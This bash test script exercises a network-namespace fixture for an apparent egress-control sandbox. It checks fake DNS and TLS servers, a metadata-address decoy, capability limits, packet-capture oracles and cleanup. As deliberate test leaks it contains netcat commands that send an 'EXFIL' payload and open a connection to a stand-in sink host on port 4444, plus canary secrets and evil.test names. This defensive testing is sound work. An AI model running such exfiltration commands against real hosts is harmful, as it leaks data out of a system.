#!/bin/bash
# tests/netns/test_fixture.sh: the exfil fixture F0 (tests/lib/fixture.sh)
# comes up, passes the safety precondition, its fake servers answer from
# inside wan, the capture oracle sees a flow, the precondition catches a
# planted uplink, and fx_down leaves nothing behind. Runs as root (label
# netns); touches only namespaces named after its own PID.
set -u
. "$(dirname "$0")/../lib/fixture.sh"

fail=0
check() { # check DESCRIPTION CMD...
	local d=$1
	shift
	if "$@" >/dev/null 2>&1; then
		echo "ok   $d"
	else
		echo "FAIL $d"
		fail=1
	fi
}

fx_init "fxt$$"
trap 'fx_down; rm -rf "$FX_DIR"' EXIT
trap 'exit 130' INT TERM

check "fx_up builds sbx and wan" fx_up
check "safety precondition holds" fx_safety
check "fake servers become ready" fx_servers_start
check "capture starts" fx_pcap_start

w() { ip netns exec "$FX_WAN" "$@"; }
check "DNS answers in wan" sh -c "ip netns exec $FX_WAN dig +time=2 +tries=1 +short @203.0.113.53 api.allowed.test | grep -qx 203.0.113.10"
check "DNS over TCP in wan" sh -c "ip netns exec $FX_WAN dig +tcp +time=2 +tries=1 +short @2001:db8::53 AAAA api.allowed.test | grep -qx 2001:db8::10"
check "the evil.test zone answers (fake resolver is authoritative for *.test)" sh -c "ip netns exec $FX_WAN dig +time=2 +tries=1 +short @203.0.113.53 x.evil.test | grep -qx 203.0.113.20"
check "HTTPS echo verifies with PublicTestCA" sh -c "ip netns exec $FX_WAN curl -sS -m5 --cacert $FX_CERTS/ca.pem https://api.allowed.test/v1/x --resolve api.allowed.test:443:203.0.113.10 | grep -q fakenet-echo"
check "co-tenant routes by SNI" sh -c "ip netns exec $FX_WAN curl -sS -m5 --cacert $FX_CERTS/ca.pem https://cotenant.evil.test/ --resolve cotenant.evil.test:443:203.0.113.12 | grep -q '\"sni\": \"cotenant.evil.test\"'"
check "bad TLS: expired cert is rejected" sh -c "! ip netns exec $FX_WAN curl -sS -m5 --cacert $FX_CERTS/ca.pem https://badtls.allowed.test:4431/ --resolve badtls.allowed.test:4431:203.0.113.66"
check "bad TLS: good cert on 4435 verifies" sh -c "ip netns exec $FX_WAN curl -sS -m5 --cacert $FX_CERTS/ca.pem https://badtls.allowed.test:4435/ --resolve badtls.allowed.test:4435:203.0.113.66 | grep -q fakenet-echo"
check "decoy answers sbx and logs" sh -c "ip netns exec $FX_SBX curl -sS -m3 http://169.254.169.254/ | grep -q FAKENET-DECOY && grep -q 169.254.169.254 $FX_DIR/fakenet/decoy.log"
check "wildcard pool answers sbx" sh -c "ip netns exec $FX_SBX curl -sS -m3 --cacert $FX_CERTS/ca.pem https://a.wild.allowed.test/ --resolve a.wild.allowed.test:443:198.51.100.7 | grep -q wild.log"

# Without egressd the fixture is open: the oracles must see the leak.
fx_ws sh -c 'echo EXFIL | nc -u -w1 203.0.113.20 9999' >/dev/null 2>&1
fx_ws nc -z -w3 203.0.113.20 4444 >/dev/null 2>&1
check "workload runs as uid 1000" sh -c "[ \"\$(ip netns exec $FX_SBX setpriv --reuid 1000 --regid 1000 --clear-groups id -u)\" = 1000 ]"
check "P0 workload has no capabilities" fx_ws grep -Eq 'CapEff:\s+0+$' /proc/self/status
check "P1 helper holds CAP_NET_RAW only" fx_ws_raw grep -Eq 'CapEff:\s+0+2000$' /proc/self/status
check "P2 helper holds CAP_NET_ADMIN only" fx_ws_admin grep -Eq 'CapEff:\s+0+1000$' /proc/self/status
check "sink logged the TCP flow with its port" grep -q '"dport": 4444' "$FX_DIR/fakenet/sink.log"
check "sink logged the UDP bytes" grep -q 455846494c0a "$FX_DIR/fakenet/sink.log"
fx_pcap_stop
check "O1 sees the flows to the sink" sh -c "fx_o1=\$($FX_PY $FX_LIB_DIR/oracles.py o1 --pcap $FX_DIR/wan.pcap --mac $FX_SBX_MAC); echo \"\$fx_o1\" | grep -q 'udp to 203.0.113.20 port 9999' && echo \"\$fx_o1\" | grep -q 'tcp to 203.0.113.20 port 4444'"
check "O2 finds a base64 canary" sh -c "printf '%s' \$(printf '%s' '$FX_S1' | base64 -w0) > $FX_DIR/o2.txt; ! $FX_PY $FX_LIB_DIR/oracles.py o2 $FX_DIR/o2.txt"
check "O2 passes a fake key" sh -c "printf '%s' '$FX_FAKE_KEY sk-live-CANARY1-' > $FX_DIR/o2b.txt; $FX_PY $FX_LIB_DIR/oracles.py o2 $FX_DIR/o2b.txt"

# The precondition must catch an uplink: plant a default route in wan.
ip -n "$FX_WAN" route add default via 10.200.0.2 dev wan0 2>/dev/null
check "safety precondition catches a default route in wan" sh -c "! (. $FX_LIB_DIR/fixture.sh; FX_SBX=$FX_SBX FX_WAN=$FX_WAN; fx_safety)"
ip -n "$FX_WAN" route del default 2>/dev/null

pids=$(cat "$FX_DIR/pids")
fx_down
check "no namespace left" sh -c "[ -z \"\$(. $FX_LIB_DIR/fixture.sh; fx_leftovers $FX_ID)\" ]"
left=0
for p in $pids; do kill -0 "$p" 2>/dev/null && left=1; done
check "no process left" [ "$left" = 0 ]

[ "$fail" = 0 ] && echo "test_fixture: all checks passed"
exit "$fail"
